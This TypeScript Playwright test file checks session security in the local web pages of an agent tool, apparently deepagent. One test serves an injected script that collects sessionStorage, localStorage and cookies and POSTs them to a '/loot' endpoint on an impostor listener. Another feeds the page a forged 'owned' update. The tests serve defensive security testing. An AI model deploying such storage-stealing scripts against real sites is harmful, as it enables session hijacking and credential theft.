import { isApproval } from "../../../src/runs/run.ts";
import type { IncomingMessage, ServerResponse } from "node:http";
import { text as textOf } from "node:stream/consumers";
import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { SECRET_HEADER } from "../../../src/server/page/tab-secrets.ts";
import { ME, mine, cleanUpWith, reach, startRun } from "../../runs/support.ts";
import { send } from "../../support/clients-raw.ts";
import { plainRuns } from "../support.ts";
import { browser, problemsOf } from "./chromium.ts";
import { answersFrom, listenAt } from "./other-listeners.ts";
import { seededRuns } from "./seeded-runs.ts";
import { linkTo, openPages, waitingRun } from "./support.ts";

/** What came to a program that listens on this machine. */
interface Received {
  headers: IncomingMessage["headers"];
  url: string;
  body: string;
}

/** Keeps what it gets, and answers all with the same. */
async function thief(port: number, type: string, answer: string) {
  const got: Received[] = [];
  const receive = async (asked: IncomingMessage, response: ServerResponse): Promise<void> => {
    got.push({ headers: asked.headers, url: asked.url ?? "", body: await textOf(asked) });
    response.setHeader("content-type", type);
    response.end(answer);
  };
  const { port: own } = await listenAt(port, (...request) => void receive(...request));
  return { got, port: own };
}

const portOf = (address: string): number => Number(new URL(address).port);
const isLive = (page: Page) => page.getByText("Live", { exact: true }).waitFor();
const secretIn = (page: Page) =>
  page.evaluate<string>(`JSON.parse(sessionStorage.getItem("session"))?.secret ?? ""`);

describe("a session in Chromium", { tags: "chromium" }, () => {
  const open = browser();
  const withoutScripts = browser({ javaScriptEnabled: false });

  test("outlasts reloads, and the browser goes back and forward through screens and their places", async () => {
    const { service, runId } = await waitingRun("a");
    const pages = await openPages(service);
    const { page, messages } = await open(pages.link({ principal: ME, purpose: "decide" }));
    await page.waitForURL(pages.address);
    expect(await page.context().cookies()).toEqual([]);
    await page.locator("a.run-row").first().click();
    await page.waitForURL(/\/runs\//);
    await page.getByRole("link", { name: "Work", exact: true }).click();
    await page.getByRole("heading", { name: "Activity" }).waitFor();
    await page.reload();
    await page.getByRole("heading", { name: "Activity" }).waitFor();
    await page.goBack();
    await page.locator("[data-approval]").waitFor();
    await page.goBack();
    await page.getByLabel("New task").waitFor();
    await page.goForward();
    await page.locator("[data-approval]").waitFor();
    const id = await page.locator("[data-approval]").getAttribute("id");
    await page.goto(`${pages.address}review#${id}`);
    await page.locator("[data-approval]:target").waitFor();
    expect(await page.evaluate("document.activeElement.id")).toBe(id);
    expect(await page.locator("[data-approval]").count()).toBe(1);
    expect(page.url()).toContain("/review#");
    expect(await mine(service).read.view(runId)).toBeDefined();
    expect(messages).toEqual([]);
  });

  test("the browser comes back to the place on a screen that it left, and reloads it there", async () => {
    const { service, runs } = await seededRuns();
    const pages = await openPages(service);
    const { page } = await open(pages.link({ principal: ME, purpose: "decide", first: runs.twelve }));
    const height = () => page.evaluate<number>("document.documentElement.scrollHeight");
    await page.setViewportSize({ width: 1000, height: 300 });
    await page.getByRole("link", { name: "Work", exact: true }).click();
    await page.getByRole("heading", { name: "Activity" }).waitFor();
    expect(await height()).toBeGreaterThan(900);
    await page.evaluate("scrollTo(0, 500)");
    await page.reload();
    const place = () => page.evaluate<number>("scrollY");
    await expect.poll(place).toBe(500);
    // A click of the test's own would scroll first.
    await page.evaluate(`document.querySelector('.top-nav a[href="/files"]').click()`);
    await page.waitForURL(/\/files$/);
    await page.goBack();
    await page.getByRole("heading", { name: "Activity" }).waitFor();
    await expect.poll(place).toBe(500);
  });

  test("forms leave addresses that can be reloaded and gone back from", async () => {
    const { service } = await waitingRun("a");
    const pages = await openPages(service);
    const { page } = await open(pages.link({ principal: ME, purpose: "decide" }));
    await page.getByLabel("New task").fill("another");
    await page.getByRole("button", { name: "Start run" }).click();
    await page.waitForURL(/\/runs\//);
    const run = page.url();
    await page.reload();
    await page.getByRole("heading", { name: "another" }).waitFor();
    await page.goBack();
    await page.getByLabel("New task").waitFor();
    expect(await page.getByLabel("New task").inputValue()).toBe("");
    await page.goForward();
    await page.getByRole("heading", { name: "another" }).waitFor();
    expect(page.url()).toBe(run);
    expect(await mine(service).read.list({ limit: 9 })).toHaveLength(2);
  });

  test("goes along into tabs that are opened from the page, and nowhere else", async () => {
    const { service, runId, notes } = await waitingRun("a");
    const pages = await openPages(service);
    const { page } = await open(pages.link({ principal: ME, purpose: "decide" }));
    const opened = page.context().waitForEvent("page");
    await page
      .locator("a.run-row")
      .first()
      .click({ modifiers: ["ControlOrMeta"] });
    const tab = await opened;
    cleanUpWith(() => tab.close());
    await tab.getByRole("button", { name: "Approve", exact: true }).click();
    await reach(service, runId, "completed");
    expect(notes).toEqual(["a"]);
    expect(await secretIn(tab)).toBe(await secretIn(page));
    // A tab of one run has nothing to give for another.
    const others = await openPages(service);
    await open(linkTo(others, runId, "watch"));
    const { page: stranger } = await open(others.address);
    await stranger.getByRole("heading", { name: "Page not found" }).waitFor();
    expect(await secretIn(stranger)).toBe("");
  });

  test("a tab of a link that only looks does not decide because it was opened from another one", async () => {
    const { service, runId } = await waitingRun("a");
    const pages = await openPages(service);
    const { page } = await open(linkTo(pages, runId, "watch"));
    await page.locator("[data-approval]").waitFor();
    const { page: tab } = await open(`${pages.address}runs/${runId}/review`);
    await tab.locator("[data-approval]").waitFor();
    expect(await tab.locator("main").getByRole("button").count()).toBe(0);
  });

  test("a link that was used before opens nothing, and says how to go on", async () => {
    const { service, runId } = await waitingRun("a");
    const link = linkTo(await openPages(service), runId, "decide");
    const { page } = await open(link);
    await page.locator("[data-approval]").waitFor();
    const { page: late } = await open(link);
    await late.getByRole("heading", { name: "This link cannot be used" }).waitFor();
    await late.getByText("deepagent-mcp open").waitFor();
    expect(late.url()).not.toContain("#");
    expect(await problemsOf(late)).toEqual([]);
  });

  test("without scripts the page says that it needs them", async () => {
    const { service, runId } = await waitingRun("a");
    const { page } = await withoutScripts(linkTo(await openPages(service), runId, "decide"));
    await page.getByRole("heading", { name: "deepagent needs JavaScript" }).waitFor();
    expect(await page.getByText("Opening").isVisible()).toBe(false);
  });

  test("another server at its port refuses it: the page says how to go on, and keeps what is typed", async () => {
    const { service, notes } = await waitingRun("a");
    const first = await openPages(service);
    const { page } = await open(first.link({ principal: ME, purpose: "decide" }));
    await page.getByLabel("New task").fill("half a thought");
    await isLive(page);
    await first.close();
    await page.getByRole("alert").getByText("deepagent-mcp open").waitFor();
    const second = await openPages(service);
    await listenAt(portOf(first.address), answersFrom(second.address));
    await page.getByRole("alert").getByText("This page has ended").waitFor();
    expect(await page.getByLabel("New task").inputValue()).toBe("half a thought");
    expect(await page.getByRole("button", { name: "Start run" }).isDisabled()).toBe(true);
    expect(await secretIn(page)).toBe("");
    expect(await problemsOf(page)).toEqual([]);
    await page.reload();
    await page.getByRole("heading", { name: "Page not found" }).waitFor();
    expect(notes).toEqual([]);
  });

  test("another program at its port gets nothing of use, and nothing that it answers is shown", async () => {
    const { service, runId } = await waitingRun("a");
    const first = await openPages(service);
    const { page } = await open(linkTo(first, runId, "decide"));
    await page.locator("[data-fold=reject] summary").click();
    await page.getByLabel("Reason (the agent sees this").fill("half a thought");
    await isLive(page);
    const secret = await secretIn(page);
    await first.close();
    const update = JSON.stringify({ title: "owned", icon: "", html: "<h1>owned</h1>", waiting: 0 });
    const { got } = await thief(
      portOf(first.address),
      "text/event-stream",
      `event: update\ndata: ${update}\n\n`,
    );
    await page.getByRole("alert").getByText("This page has ended").waitFor();
    expect(await page.title()).not.toBe("owned");
    expect(await page.getByText("owned").count()).toBe(0);
    expect(await page.getByLabel("Reason (the agent sees this").inputValue()).toBe("half a thought");
    await page.waitForTimeout(2500);
    expect(got).toHaveLength(1);
    expect(got[0]?.headers.cookie).toBeUndefined();
    expect(got[0]?.headers[SECRET_HEADER]).toBe(secret);
    // The same headers at a later server of the same runs and key.
    const second = await openPages(service);
    const { host, origin } = new URL(second.address);
    const headers = { [SECRET_HEADER]: secret, host, origin };
    for (const path of ["/", `/runs/${runId}`, `/runs/${runId}/review`]) {
      expect((await send(origin + path, { method: "GET", headers })).status).toBe(401);
    }
    const type = "application/x-www-form-urlencoded";
    const body = new URLSearchParams({ decision: "approve" }).toString();
    const decided = await send(`${origin}/runs/${runId}/reply`, {
      headers: { ...headers, "content-type": type },
      body,
    });
    expect(decided.status).toBe(401);
    expect((await mine(service).read.view(runId))?.run.status).toBe("input_required");
  });

  test("a page of another program at its port finds nothing that a later server takes", async () => {
    const { service, runId } = await waitingRun("a");
    const first = await openPages(service);
    const { page } = await open(first.link({ principal: ME, purpose: "decide" }));
    await isLive(page);
    await first.close();
    const script = `<script>
      const found = JSON.stringify({ ...sessionStorage, ...localStorage, cookie: document.cookie });
      new BroadcastChannel("session").postMessage({ asks: "/" });
      fetch("/loot", { method: "POST", body: found });
    </script>`;
    const { got } = await thief(portOf(first.address), "text/html", script);
    await page.goto(first.address);
    await expect.poll(() => got.find(({ url }) => url === "/loot")?.body).toBeDefined();
    const loot = JSON.parse(got.find(({ url }) => url === "/loot")?.body ?? "") as Record<string, string>;
    expect(loot["cookie"]).toBe("");
    const { secret = "" } = JSON.parse(loot["session"] ?? "{}") as { secret?: string };
    const second = await openPages(service);
    expect(second.address).not.toBe(first.address);
    const { status } = await send(second.address, { method: "GET", headers: { [SECRET_HEADER]: secret } });
    expect(status).toBe(401);
    expect((await mine(service).read.view(runId))?.run.status).toBe("input_required");
  });

  test("a link in an answer to another port of this machine takes nothing along", async () => {
    const { got, port } = await thief(0, "text/html", "<title>elsewhere</title>");
    const service = plainRuns(`Done. [Preview](http://127.0.0.1:${port}/preview)`);
    const { id } = await startRun(service, "go");
    await reach(service, id, "completed");
    const pages = await openPages(service);
    const { page } = await open(pages.link({ principal: ME, purpose: "decide", first: id }));
    const link = page.getByRole("link", { name: "Preview" });
    expect(await link.getAttribute("rel")).toBe("noreferrer noopener");
    const secret = await secretIn(page);
    await link.click();
    await expect.poll(() => page.title()).toBe("elsewhere");
    expect(got[0]?.url).toBe("/preview");
    expect(got.map(({ headers }) => [headers.cookie, headers.referer])).toContainEqual([
      undefined,
      undefined,
    ]);
    expect(JSON.stringify(got)).not.toContain(secret);
    expect(JSON.stringify(got)).not.toContain(new URL(pages.address).host);
    expect(await page.evaluate("JSON.stringify({ ...sessionStorage, opener })")).toBe('{"opener":null}');
  });

  test("two tabs of two links do not know of each other, and both are kept up to date", async () => {
    const { service, runId, view } = await waitingRun("a");
    const pages = await openPages(service);
    const { page: watching } = await open(linkTo(pages, runId, "watch"));
    const { page: deciding } = await open(linkTo(pages, runId, "decide"));
    await watching.locator("[data-approval]").waitFor();
    await deciding.getByRole("button", { name: "Approve", exact: true }).waitFor();
    expect(await watching.locator("main").getByRole("button").count()).toBe(0);
    expect(await secretIn(watching)).not.toBe(await secretIn(deciding));
    await mine(service).requests.answer(
      runId,
      { requestId: view.requests.filter(isApproval)[0]?.id ?? "", answer: { type: "approve" } },
      "test",
    );
    for (const page of [watching, deciding])
      await page.getByRole("status").getByText("Completed", { exact: true }).waitFor();
  });
});
